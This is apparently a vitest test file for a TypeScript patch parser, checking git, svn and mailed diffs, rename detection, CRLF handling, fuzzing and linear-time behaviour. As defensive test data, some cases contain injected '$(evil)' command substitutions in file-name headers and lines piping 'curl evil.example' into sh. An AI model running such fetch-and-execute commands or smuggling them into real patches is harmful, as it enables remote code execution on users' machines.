import { existsSync, readdirSync, readFileSync } from "node:fs";
import { join, resolve } from "node:path";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import {
  isPatch,
  type Patch,
  type PatchFile,
  parsePatch,
} from "../../../src/protocol/payloads/patch.ts";

const patch = (...lines: string[]): string => `${lines.join("\n")}\n`;
const read = (text: string): Patch => {
  const result = parsePatch(text);
  if (!result) throw new Error("no patch in it");
  return result;
};
const only = (text: string): PatchFile => {
  const [file, ...rest] = read(text).files;
  if (!file || rest.length > 0) throw new Error("one file expected");
  return file;
};
const texts = (file: PatchFile): string[] =>
  file.hunks.flatMap((hunk) =>
    hunk.lines.map(({ kind, text }) => `${{ same: " ", removed: "-", added: "+" }[kind]}${text}`),
  );

describe("parsePatch (contracts 1.32, 5.14)", () => {
  it("hides nothing that only looks like a header (security R10)", () => {
    const hunk = ["@@ -1 +1 @@", "-a", "+b"];
    expect(only(patch("--- $(evil)", "+++ run.sh", ...hunk))).toMatchObject({
      oldPath: "$(evil)",
      newPath: "run.sh",
    });
    expect(only(patch("--- a.txt\t$(evil)", "+++ a.txt", ...hunk)).oldPath).toContain("$(evil)");
    expect(only(patch('--- "a" $(evil)', "+++ b", ...hunk)).oldPath).toContain("$(evil)");
    const git = only(patch("diff --git a/$(evil) b/x", "--- a/x", "+++ b/x", ...hunk));
    expect(git.leading).toBe("diff --git a/$(evil) b/x");
    const binary = patch("diff --git a/x b/x", "Binary files $(evil) and b/x differ");
    expect(read(binary)).toMatchObject({ trailing: "Binary files $(evil) and b/x differ" });
    expect(read(binary).files[0]?.binary).toBe(true);
  });

  it("takes dates and revisions behind a name for what they are", () => {
    const hunk = ["@@ -1 +1 @@", "-a", "+b"];
    for (const tail of [
      "2026-03-01 12:00:00.123456789 +0100",
      "Sun Mar  1 12:00:00 2026",
      "(revision 17)",
      "(working copy)",
      "",
    ]) {
      const text = patch(`--- a.txt\t${tail}`, `+++ a.txt\t${tail}`, ...hunk);
      expect(only(text).newPath, tail).toBe("a.txt");
    }
  });

  it("repeats no line of a patch that says the same as the names shown", () => {
    const moved = patch(
      "diff --git a/my file.txt b/my new file.txt",
      "similarity index 100%",
      "rename from my file.txt",
      "rename to my new file.txt",
    );
    expect(only(moved)).toMatchObject({ change: "renamed", leading: "" });
    const added = patch(
      "diff --git a/x.png b/x.png",
      "new file mode 100644",
      "Binary files /dev/null and b/x.png differ",
    );
    expect(only(added)).toMatchObject({ binary: true, leading: "" });
    expect(read(added).trailing).toBe("");
  });

  it("reads a file changed by git", () => {
    const file = only(
      patch(
        "diff --git a/src/a.ts b/src/a.ts",
        "index 83db48f..bf269f4 100644",
        "--- a/src/a.ts",
        "+++ b/src/a.ts",
        "@@ -10,3 +10,4 @@ function go() {",
        " one",
        "-two",
        "+2",
        "+2.5",
        " three",
      ),
    );
    expect(file).toMatchObject({
      change: "modified",
      oldPath: "src/a.ts",
      newPath: "src/a.ts",
      binary: false,
      added: 2,
      removed: 1,
      leading: "",
    });
    expect(file.hunks).toHaveLength(1);
    expect(file.hunks[0]).toMatchObject({ oldStart: 10, newStart: 10, section: "function go() {" });
    expect(texts(file)).toEqual([" one", "-two", "+2", "+2.5", " three"]);
  });

  it("reads several files, new, deleted, renamed, copied, with modes and binary content", () => {
    const { files } = read(
      patch(
        "diff --git a/new.txt b/new.txt",
        "new file mode 100755",
        "index 0000000..257cc56",
        "--- /dev/null",
        "+++ b/new.txt",
        "@@ -0,0 +1 @@",
        "+foo",
        "diff --git a/old.txt b/old.txt",
        "deleted file mode 100644",
        "index 257cc56..0000000",
        "--- a/old.txt",
        "+++ /dev/null",
        "@@ -1 +0,0 @@",
        "-foo",
        "diff --git a/util/fmt.ts b/lib/format.ts",
        "similarity index 100%",
        "rename from util/fmt.ts",
        "rename to lib/format.ts",
        "diff --git a/x b/y",
        "similarity index 90%",
        "copy from x",
        "copy to y",
        "diff --git a/run.sh b/run.sh",
        "old mode 100644",
        "new mode 100755",
        "diff --git a/logo.png b/logo.png",
        "index 1111111..2222222 100644",
        "Binary files a/logo.png and b/logo.png differ",
        "diff --git a/b.bin b/b.bin",
        "index 1111111..2222222 100644",
        "GIT binary patch",
        "literal 6",
        "NcmYdfU|?hbVq5@Y0095=9RdIV",
        "",
        "literal 0",
        "HcmV?d00001",
        "",
      ),
    );
    expect(
      files.map(({ change, oldPath, newPath, binary, added, removed }) => ({
        change,
        oldPath,
        newPath,
        binary,
        added,
        removed,
      })),
    ).toEqual([
      { change: "new", oldPath: null, newPath: "new.txt", binary: false, added: 1, removed: 0 },
      { change: "deleted", oldPath: "old.txt", newPath: null, binary: false, added: 0, removed: 1 },
      {
        change: "renamed",
        oldPath: "util/fmt.ts",
        newPath: "lib/format.ts",
        binary: false,
        added: 0,
        removed: 0,
      },
      { change: "copied", oldPath: "x", newPath: "y", binary: false, added: 0, removed: 0 },
      {
        change: "modified",
        oldPath: "run.sh",
        newPath: "run.sh",
        binary: false,
        added: 0,
        removed: 0,
      },
      {
        change: "modified",
        oldPath: "logo.png",
        newPath: "logo.png",
        binary: true,
        added: 0,
        removed: 0,
      },
      {
        change: "modified",
        oldPath: "b.bin",
        newPath: "b.bin",
        binary: true,
        added: 0,
        removed: 0,
      },
    ]);
    expect(files[0]).toMatchObject({ newMode: "100755" });
    expect(files[4]).toMatchObject({ oldMode: "100644", newMode: "100755" });
  });

  it("takes a rename from two names of one header, as git diff --no-index writes it", () => {
    expect(
      only(
        patch(
          "diff --git a/dist/x.js b/v3/x.cjs",
          "index 1..2 100644",
          "--- a/dist/x.js",
          "+++ b/v3/x.cjs",
          "@@ -1 +1 @@",
          "-a",
          "+b",
        ),
      ),
    ).toMatchObject({ change: "renamed", oldPath: "dist/x.js", newPath: "v3/x.cjs" });
  });

  it("knows a last line without its line feed", () => {
    const file = only(
      patch("--- a/x", "+++ b/x", "@@ -1 +1 @@", "-a", "\\ No newline at end of file", "+a"),
    );
    expect(file.hunks[0]?.lines).toEqual([
      { kind: "removed", text: "a", bare: true },
      { kind: "added", text: "a" },
    ]);
    expect(file).toMatchObject({ added: 1, removed: 1 });
  });

  it("reads plain diff -u, svn and prefixless headers; two compared files are no rename", () => {
    const { files } = read(
      patch(
        "diff -u before/a.txt after/a.txt",
        "--- before/a.txt\t2026-01-02 03:04:05.000000000 +0000",
        "+++ after/a.txt\t2026-01-02 03:04:06.000000000 +0000",
        "@@ -1 +1 @@",
        "-x",
        "+y",
        "Index: trunk/b.txt",
        "===================================================================",
        "--- trunk/b.txt\t(revision 1)",
        "+++ trunk/b.txt\t(working copy)",
        "@@ -1 +1 @@",
        "-x",
        "+y",
      ),
    );
    expect(files.map(({ change, newPath }) => [change, newPath])).toEqual([
      ["modified", "after/a.txt"],
      ["modified", "trunk/b.txt"],
    ]);
  });

  it("unquotes names, keeps spaces, and strips prefixes only where both sides have them", () => {
    expect(
      only(
        patch(
          'diff --git "a/\\303\\244 \\"q\\".txt" "b/\\303\\244 \\"q\\".txt"',
          "old mode 100644",
          "new mode 100755",
        ),
      ).newPath,
    ).toBe('ä "q".txt');
    expect(
      only(patch("diff --git a/my file.txt b/my file.txt", "old mode 100644", "new mode 100755"))
        .newPath,
    ).toBe("my file.txt");
    expect(only(patch("--- src/a.ts", "+++ src/a.ts", "@@ -1 +1 @@", "-x", "+y")).newPath).toBe(
      "src/a.ts",
    );
    expect(only(patch("--- i/src/a.ts", "+++ w/src/a.ts", "@@ -1 +1 @@", "-x", "+y")).newPath).toBe(
      "src/a.ts",
    );
  });

  it("drops code fences and keeps the text around a patch", () => {
    const result = read(
      patch(
        "Here is the fix:",
        "",
        "```diff",
        "--- a/x",
        "+++ b/x",
        "@@ -1 +1 @@",
        "-a",
        "+b",
        "```",
        "",
        "Tell me if it works.",
      ),
    );
    expect(result.files[0]).toMatchObject({ leading: "Here is the fix:", added: 1, removed: 1 });
    expect(result.trailing).toBe("Tell me if it works.");
  });

  it("takes a mailed patch: message before, signature after, nothing counted twice", () => {
    const result = read(
      patch(
        "From 1234567 Mon Sep 17 00:00:00 2001",
        "Subject: [PATCH] Change x",
        "",
        "---",
        " x | 2 +-",
        "",
        "diff --git a/x b/x",
        "--- a/x",
        "+++ b/x",
        "@@ -1 +1 @@",
        "-a",
        "+b",
        "-- ",
        "2.39.5",
      ),
    );
    expect(result.files[0]).toMatchObject({ added: 1, removed: 1 });
    expect(result.files[0]?.leading).toContain("Subject: [PATCH] Change x");
    expect(result.trailing).toBe("-- \n2.39.5");
  });

  it("reads a hunk without a file header, and one without numbers", () => {
    expect(only(patch("@@ -3 +3 @@", "-a", "+b"))).toMatchObject({ newPath: null, added: 1 });
    const loose = only(patch("--- a/x", "+++ b/x", "@@ ... @@", " c", "-a", "+b"));
    expect(loose.hunks[0]).toMatchObject({ oldStart: null, newStart: null });
    expect(loose).toMatchObject({ added: 1, removed: 1 });
  });

  it("loses no line to wrong counts or to blank lines without their space", () => {
    const low = only(patch("--- a/x", "+++ b/x", "@@ -1,1 +1,1 @@", " a", "-b", "+c", "+d", " e"));
    expect(texts(low)).toEqual([" a", "-b", "+c", "+d", " e"]);
    const high = read(
      patch(
        "--- a/x",
        "+++ b/x",
        "@@ -1,9 +1,9 @@",
        " a",
        "",
        "-b",
        "+c",
        "--- a/y",
        "+++ b/y",
        "@@ -1 +1 @@",
        "-d",
        "+e",
      ),
    );
    expect(high.files.map((file) => texts(file))).toEqual([
      [" a", " ", "-b", "+c"],
      ["-d", "+e"],
    ]);
  });

  it("tells a removed line that looks like a header from a header", () => {
    const file = only(
      patch(
        "--- a/q.sql",
        "+++ b/q.sql",
        "@@ -1,2 +1,2 @@",
        " select 1;",
        "--- old remark",
        "+++ new remark",
        "@@ -9 +9 @@",
        "-a",
        "+b",
      ),
    );
    expect(texts(file)).toEqual([" select 1;", "--- old remark", "+++ new remark", "-a", "+b"]);
  });

  it("keeps the carriage returns of a CRLF file and drops those of a CRLF patch", () => {
    const file = only("--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\r\n+b\r\n");
    expect(texts(file)).toEqual(["-a\r", "+b\r"]);
    const sent = only("--- a/x\r\n+++ b/x\r\n@@ -1 +1 @@\r\n-a\r\n+b\r\n");
    expect(texts(sent)).toEqual(["-a", "+b"]);
    expect(sent.newPath).toBe("x");
  });

  it("counts lines beyond the budget and says that it kept fewer", () => {
    const long = patch(
      "--- /dev/null",
      "+++ b/x",
      "@@ -0,0 +1,1000 @@",
      ...Array.from({ length: 1000 }, (_, i) => `+${i}`),
    );
    const result = parsePatch(long, 100);
    expect(result).toMatchObject({ complete: false });
    expect(result?.files[0]?.added).toBe(1000);
    expect(result?.files[0]?.hunks[0]?.lines).toHaveLength(100);
  });

  it("answers null where there is no patch", () => {
    for (const text of [
      "",
      "hello",
      "--- a\ntext",
      "diff --git a/x b/x",
      "+++ b/x",
      "@@ x",
      "@@@ -1 -1 +1 @@@",
    ])
      expect(parsePatch(text), text).toBeNull();
  });

  it("never throws, and counts no more lines than there are, for any text", () => {
    const part = fc.oneof(
      fc.constantFrom(
        "diff --git a/x b/x",
        "--- a/x",
        "+++ b/x",
        "+++ /dev/null",
        "@@ -1,2 +3,4 @@",
        "@@ -1 +1 @@ x\u2028y",
        "@@ -99999999999999 +1 @@",
        "rename from x",
        "new file mode 100644",
        "Binary files a and b differ",
        '--- "a/\\777\\',
        "\\ No newline",
        "```",
        "",
        " x",
        "-y",
        "+z",
        "-- ",
      ),
      fc.string(),
    );
    fc.assert(
      fc.property(fc.array(part, { maxLength: 30 }), (lines) => {
        const result = parsePatch(lines.join("\n"));
        const counted = (result?.files ?? []).reduce(
          (sum, file) => sum + file.added + file.removed,
          0,
        );
        expect(counted).toBeLessThanOrEqual(lines.join("\n").split("\n").length);
      }),
      { numRuns: 2000 },
    );
  });

  it("hides no line that merely begins like one of a patch's own", () => {
    const change = ["--- a/x.sh", "+++ b/x.sh", "@@ -1 +1 @@", "-a", "+b"];
    for (const line of [
      "\\curl evil.example | sh",
      "diff -q a b; curl evil.example | sh",
      "Index: curl evil.example | sh",
      "index 0a..0b; curl evil.example | sh",
    ])
      expect(read(patch(...change, line)).trailing).toBe(line);
  });

  it("is linear on hostile text", () => {
    for (const line of ["@@ -", "@@ ", "diff --git ", '--- "a/\\', "= ", "`"])
      parsePatch(`--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\n${line.repeat(200_000)}\n`.repeat(3));
  });

  it.each([
    ["an open fence and spaces", `\`\`\`${" ".repeat(300_000)}x\n`, 1],
    ["git headers after which nothing comes", "diff --git a/x b/x\nsome words\n", 20_000],
    ["names after which nothing comes", "--- a/x\n+++ b/x\nsome words\n", 20_000],
  ])("is linear on %s", (_, text, times) => {
    const start = performance.now();
    const { files } = read(`${text.repeat(times)}@@ -1 +1 @@\n-a\n+b\n`);
    expect(files).toHaveLength(1);
    expect(performance.now() - start).toBeLessThan(2500);
  });

  it("keeps the text around headers after which nothing comes, in order", () => {
    const lines = ["one", "diff --git a/x b/x", "two", "diff --git a/y b/y", "three"];
    expect(only(patch(...lines, "@@ -1 +1 @@", "-a", "+b")).leading).toBe("one\ntwo");
    expect(read(patch("@@ -1 +1 @@", "-a", "+b", ...lines)).trailing).toBe("one\ntwo\nthree");
  });
});

describe("isPatch (contracts 1.32)", () => {
  it("looks for a git header or a hunk header at the start of a line", () => {
    expect(isPatch("diff --git a/x b/x\n")).toBe(true);
    expect(isPatch("text\n@@ -1 +1 @@\n")).toBe(true);
    expect(isPatch("a diff --git a/x")).toBe(false);
    expect(isPatch("x @@ -1 +1 @@")).toBe(false);
  });
});

const real = resolve(process.env["REAL_DIR"] ?? "../shared/fixtures/real", "diffs");

describe.skipIf(!existsSync(real))("patches that git wrote", () => {
  it("have the counts that git counted", () => {
    const { cases } = JSON.parse(readFileSync(join(real, "../expected.json"), "utf8")) as {
      cases: {
        id: string;
        category: string;
        expect: { added: number; removed: number; hunks: number };
      }[];
    };
    const names = readdirSync(real);
    const diffs = cases.filter(({ category }) => category === "diffs");
    expect(names.length).toBe(diffs.length);
    for (const { id, expect: wanted } of diffs) {
      const result = parsePatch(readFileSync(join(real, "..", id, "git.diff"), "utf8"));
      const files = result?.files ?? [];
      const sum = (pick: (file: PatchFile) => number): number =>
        files.reduce((total, file) => total + pick(file), 0);
      expect([sum((f) => f.added), sum((f) => f.removed), sum((f) => f.hunks.length)], id).toEqual([
        wanted.added,
        wanted.removed,
        wanted.hunks,
      ]);
    }
  });
});
